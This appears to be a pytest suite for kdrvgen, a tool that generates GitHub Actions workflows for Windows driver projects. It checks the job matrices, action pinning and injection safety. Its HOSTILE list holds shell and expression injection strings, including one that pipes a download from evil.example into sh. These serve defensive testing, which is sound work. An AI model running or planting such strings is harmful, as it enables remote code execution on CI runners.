"""`kdrvgen ci github` and `kdrvgen new --ci github`: a workflow that is valid and safe."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import sysconfig
from collections.abc import Mapping
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import check_jsonschema
import pytest
import yaml
from click.testing import CliRunner

import kdrvgen
from tests.bootstrap.support import bootstrap, surroundings
from tests.program import run_kdrvgen
from tests.tools import need

ROOT = Path(__file__).parents[2]
WORKFLOW = ".github/workflows/driver.yml"
_SCRIPTS = Path(sysconfig.get_path("scripts"))
BOTH = "driver.targets=x86_64-pc-windows-msvc,aarch64-pc-windows-msvc"


def driver(folder: Path, text: str = "") -> Path:
    """Write a config.toml, with `text` in `[driver]` and after it."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.toml").write_text(f'[driver]\nname = "hello"\n{text}', "utf-8")
    return folder


def workflow(root: Path) -> dict[str, Any]:
    """Return the workflow in a repository, after all checkers have accepted it."""
    path = root / WORKFLOW
    checked = CliRunner().invoke(
        check_jsonschema.main, ["--builtin-schema", "vendor.github-workflows", str(path)]
    )
    assert checked.exit_code == 0, checked.output
    zizmor = ["--offline", "--no-progress", "--persona", "pedantic"]
    _succeeds(_SCRIPTS / "zizmor", *zizmor, path)
    found: dict[str, Any] = yaml.safe_load(path.read_text("utf-8"))
    return found


def rows(found: Mapping[str, Any], job: str) -> list[dict[str, str]]:
    """Return the rows of a job's matrix."""
    rows: list[dict[str, str]] = found["jobs"][job]["strategy"]["matrix"]["include"]
    return rows


@pytest.mark.slow
def test_a_new_project_has_a_workflow_that_checks_builds_and_loads_it(tmp_path: Path) -> None:
    root = bootstrap(tmp_path, "minimal", "--ci", "github", BOTH)
    found = workflow(root)
    assert list(found["jobs"]) == ["check", "build", "windows"]
    (build,) = rows(found, "build")
    assert (build["folder"], build["task"], build["output"]) == (
        ".",
        "sign-all",
        "target/driver/hello",
    )
    assert [(row["os"], row["target"], row["task"]) for row in rows(found, "windows")] == [
        ("windows-2025", "x86_64-pc-windows-msvc", "start"),
        ("windows-11-arm", "aarch64-pc-windows-msvc", "start"),
    ]
    same = run_kdrvgen("ci", "github", "--dry-run", cwd=root)
    assert same.stdout == (root / WORKFLOW).read_text("utf-8")


@pytest.mark.slow
def test_a_workspace_has_a_matrix_of_its_drivers(tmp_path: Path) -> None:
    root = bootstrap(tmp_path, "workspace", "--ci", "github")
    found = workflow(root)
    assert [(row["name"], row["folder"], row["output"]) for row in rows(found, "build")] == [
        ("hello", "drivers/first", "target/driver/hello"),
        ("hello-second", "drivers/second", "target/driver/hello-second"),
    ]
    assert len(rows(found, "windows")) == 2


def test_without_the_option_a_new_project_has_no_workflow(tmp_path: Path) -> None:
    assert not (bootstrap(tmp_path, "minimal") / ".github").exists()


def test_from_python_a_new_project_and_an_old_one_get_the_same_workflow(tmp_path: Path) -> None:
    kdrvgen.bootstrap(tmp_path, "hello", ci="github")
    driver(tmp_path / "old")
    report = kdrvgen.ci(tmp_path / "old")
    assert [(str(each.path), each.status) for each in report.entries] == [(WORKFLOW, "created")]
    old, new = ((tmp_path / name / WORKFLOW).read_text("utf-8") for name in ("old", "hello"))
    assert old == new


def test_an_old_project_gets_one_and_its_own_is_never_overwritten(tmp_path: Path) -> None:
    driver(tmp_path)
    done = run_kdrvgen("ci", "github", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (0, f"created    {WORKFLOW}\n")
    (tmp_path / WORKFLOW).write_text("mine\n", "utf-8")
    done = run_kdrvgen("ci", "github", cwd=tmp_path)
    assert done.returncode == 5
    assert "is yours, so nothing was written" in done.stderr
    assert (tmp_path / WORKFLOW).read_text("utf-8") == "mine\n"


def test_all_drivers_below_the_root_of_a_repository_are_found(tmp_path: Path) -> None:
    for place in ("kernel/a", "kernel/b", "tools/c"):
        driver(tmp_path / place)
    done = run_kdrvgen("ci", "github", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert [(row["name"], row["folder"]) for row in rows(workflow(tmp_path), "build")] == [
        ("hello", "kernel/a"),
        ("hello.2", "kernel/b"),
        ("hello.3", "tools/c"),
    ]
    done = run_kdrvgen("ci", "github", "kernel", "--dry-run", "--format", "json", cwd=tmp_path)
    assert "tools/c" not in json.loads(done.stdout)["workflow"]


def test_only_the_root_of_a_repository_gets_a_workflow(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    inner = driver(tmp_path / "driver")
    done = run_kdrvgen("ci", "github", cwd=inner)
    assert done.returncode == 2
    assert f"the root of a repository, which is {tmp_path}" in done.stderr
    assert not (inner / ".github").exists()
    assert run_kdrvgen("ci", "github", "-o", "..", cwd=inner).returncode == 0
    done = run_kdrvgen("ci", "github", "-o", "driver", "../driver", cwd=tmp_path)
    assert done.returncode == 2


def test_below_a_driver_the_error_names_the_folder_of_the_driver(tmp_path: Path) -> None:
    inner = driver(tmp_path / "driver") / "src"
    inner.mkdir()
    done = run_kdrvgen("ci", "github", cwd=inner)
    assert done.returncode == 2
    assert "in the root of the repository, such as .., or name it with -o" in done.stderr


@pytest.mark.one_in(8)
@pytest.mark.parametrize(
    ("text", "build", "windows"),
    [
        ("", 1, [("windows-2025", "start")]),
        ('target = "i686-pc-windows-msvc"\n', 1, []),
        ('model = "kmdf"\n', 0, [("windows-2022", "start")]),
        ('model = "umdf"\n', 0, [("windows-2022", "sign")]),
        (
            'entry-point = "DriverEntry"\n[wdk]\nlocate = "wdk-build"\n',
            0,
            [("windows-2022", "start")],
        ),
        ('[toolchain]\nchannel = "nightly-2026-01-01"\n', 1, [("windows-2025", "start")]),
    ],
)
def test_the_jobs_follow_from_the_project(
    tmp_path: Path, text: str, build: int, windows: list[tuple[str, str]]
) -> None:
    done = run_kdrvgen("ci", "github", "-o", str(driver(tmp_path, text)), str(tmp_path), cwd=ROOT)
    assert done.returncode == 0, done.stderr
    found = workflow(tmp_path)
    assert ("build" in found["jobs"]) == bool(build)
    made = rows(found, "windows") if "windows" in found["jobs"] else []
    assert [(row["os"], row["task"]) for row in made] == windows
    installs = "rustup toolchain install" in (tmp_path / WORKFLOW).read_text("utf-8")
    assert installs == ("nightly" in text)


HOSTILE = [
    "${{ github.token }}",
    '"; curl evil.example | sh; "',
    "$(touch owned)",
    "a: [b] # c",
    "- x",
    "it's 'ours'",
    "{% x %} << y >> {{ z }}",
    "ünïcödé ❤",
    "back\\slash",
    "a[b]?c*d",
    "true",
    "1e3",
]


def test_a_hostile_folder_name_stays_a_name(tmp_path: Path) -> None:
    if sys.platform == "win32":
        pytest.skip("Windows does not allow such names")
    for name in HOSTILE:
        driver(tmp_path / name)
    driver(tmp_path / "other", 'output-dir = "dist/{target}"\n')
    done = run_kdrvgen("ci", "github", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    found = workflow(tmp_path)
    outputs = {_evaluated(row["folder"]): row["output"] for row in rows(found, "build")}
    assert outputs.pop("other") == "other/dist"
    assert sorted(outputs) == sorted(HOSTILE)
    for name, output in outputs.items():
        assert fnmatchcase(f"{name}/target/driver/hello", _evaluated(output))
    for job in found["jobs"].values():
        for step in job["steps"]:
            assert "${{" not in step.get("run", "")


def _evaluated(text: str) -> str:
    """Return what GitHub makes of a text whose only expressions are literals."""
    assert re.sub(r"\$\{\{ '\$\{\{' \}\}", "", text).find("${{") == -1
    return text.replace("${{ '${{' }}", "${{")


def test_an_invisible_character_in_a_folder_name_is_refused(tmp_path: Path) -> None:
    driver(tmp_path / "a\u202eb")
    driver(tmp_path / "c")
    done = run_kdrvgen("ci", "github", cwd=tmp_path)
    assert done.returncode == 2
    assert "invisible character" in done.stderr


@pytest.mark.slow
def test_more_drivers_than_jobs_are_an_error(tmp_path: Path) -> None:
    for number in range(257):
        driver(tmp_path / f"d{number}")
    done = run_kdrvgen("ci", "github", cwd=tmp_path)
    assert done.returncode == 2
    assert "at most 256 jobs" in done.stderr
    (tmp_path / "d256" / "config.toml").unlink()
    assert run_kdrvgen("ci", "github", "--dry-run", cwd=tmp_path).returncode == 0


def test_a_driver_for_two_processors_has_two_jobs_on_windows(tmp_path: Path) -> None:
    targets = 'targets = ["x86_64-pc-windows-msvc", "aarch64-pc-windows-msvc"]\n'
    for number in range(129):
        driver(tmp_path / f"d{number}", targets)
    done = run_kdrvgen("ci", "github", cwd=tmp_path)
    assert done.returncode == 2
    assert "these are 129 drivers" in done.stderr


def test_another_service_is_an_error(tmp_path: Path) -> None:
    assert run_kdrvgen("ci", "gitlab", cwd=driver(tmp_path)).returncode == 2


def test_actions_are_pinned_as_in_the_workflows_of_this_repository(tmp_path: Path) -> None:
    own = "".join(
        path.read_text("utf-8") for path in (ROOT / ".github" / "workflows").glob("*.yml")
    )
    driver(tmp_path)
    run_kdrvgen("ci", "github", cwd=tmp_path)
    text = (tmp_path / WORKFLOW).read_text("utf-8")
    uses = set(re.findall(r"uses: (.*)", text))
    assert all(re.fullmatch(r"[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", each) for each in uses)
    for each in uses:
        name = each.partition("@")[0]
        assert each in own or f"uses: {name}@" not in own
    version = re.search(r'CARGO_MAKE: "(.*)"', text)
    assert version
    assert f"CARGO_MAKE_VERSION={version[1]}\n" in (ROOT / "docs" / "setup.sh").read_text("utf-8")


# The steps of the Linux jobs, as they stand


@pytest.mark.slow
@pytest.mark.parametrize("template", ["minimal", "workspace"])
def test_the_linux_jobs_of_a_new_project_run(tmp_path: Path, template: str) -> None:
    need("cargo", "cargo-make", "osslsigncode", "rustc")
    root = bootstrap(tmp_path, template, "--ci", "github")
    found = workflow(root)
    runner = _Runner(tmp_path, root, found["env"])
    for name in ("check", "build"):
        for row in rows(found, name) if name == "build" else [{}]:
            runner.run(found["jobs"][name], row)
            if row:
                assert list((root / row["output"]).rglob("*.sys"))
                report = json.loads((runner.temp / "verify.sarif").read_text("utf-8"))
                assert report["version"] == "2.1.0"
    done = {each.partition("@")[0] for each in runner.used}
    assert {"actions/upload-artifact", "github/codeql-action/upload-sarif"} <= done

    (next(root.rglob("build.rs"))).unlink()
    with pytest.raises(AssertionError, match="do not match"):
        runner.run(found["jobs"]["check"], {})


class _Runner:
    """A machine that runs the `run` steps, and for `uses` only records the action."""

    def __init__(self, tmp_path: Path, root: Path, env: Mapping[str, str]) -> None:
        self.used: list[str] = []
        self.temp = tmp_path / "runner"
        self.temp.mkdir()
        self._root = root
        self._python = self._environment(tmp_path)
        # A published kdrvgen, which pip finds in the place of the package index.
        published = {"PIP_FIND_LINKS": str(tmp_path / "index"), "PIP_NO_INDEX": "1"}
        # Its dependencies are those of this test, which pip must not look for.
        own = {"PIP_IGNORE_INSTALLED": "1", "PIP_NO_DEPS": "1"}
        path = os.pathsep.join([str(self._python), os.environ["PATH"]])
        base = surroundings(PATH=path, CI="true", **published, **own)
        self._env = {name: value for name, value in base.items() if name != "PYTHONPATH"} | dict(
            env
        )

    def run(self, job: Mapping[str, Any], matrix: Mapping[str, str]) -> None:
        """Run the steps of a job for a row of its matrix."""
        defaults = job.get("defaults", {}).get("run", {})
        folder = self._value(defaults.get("working-directory", "."), matrix)
        for step in job["steps"]:
            if "uses" in step:
                self.used.append(step["uses"])
            elif not step.get("if"):
                self._shell(step, matrix, self._root / folder, defaults.get("shell"))
            else:
                assert step["if"] == "steps.cargo-make.outputs.cache-hit != 'true'"

    def _shell(
        self, step: Mapping[str, Any], matrix: Mapping[str, str], folder: Path, shell: str | None
    ) -> None:
        own = {name: self._value(value, matrix) for name, value in step.get("env", {}).items()}
        script = self.temp / "step.sh"
        script.write_text(step["run"], "utf-8")
        # https://docs.github.com/actions/reference/workflow-syntax-for-github-actions, "shell"
        options = ["--noprofile", "--norc", "-eo", "pipefail"] if shell == "bash" else ["-e"]
        done = subprocess.run(
            ["bash", *options, str(script)],
            check=False,
            cwd=folder,
            encoding="utf-8",
            env={**self._env, **own},
            stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
        )
        assert done.returncode == 0, f"{step['name']}\n{done.stdout}"

    def _value(self, text: str, matrix: Mapping[str, str]) -> str:
        def evaluated(found: re.Match[str]) -> str:
            scope, _, name = found[1].partition(".")
            return matrix[name] if scope == "matrix" else {"temp": str(self.temp)}[name]

        return re.sub(r"\$\{\{ (.*?) \}\}", evaluated, text)

    @staticmethod
    def _environment(tmp_path: Path) -> Path:
        """Make the Python of setup-python, and a wheel of this checkout; return its scripts."""
        build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel"]
        _succeeds(*build, "-d", tmp_path / "index")
        _succeeds(sys.executable, "-m", "venv", tmp_path / "python")
        (site,) = (tmp_path / "python").glob("lib/python*/site-packages")
        (site / "dependencies.pth").write_text(sysconfig.get_path("purelib"), "utf-8")
        return tmp_path / "python" / "bin"


def _succeeds(program: str | Path, *arguments: str | Path) -> None:
    done = subprocess.run(
        [program, *arguments],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode == 0, done.stdout
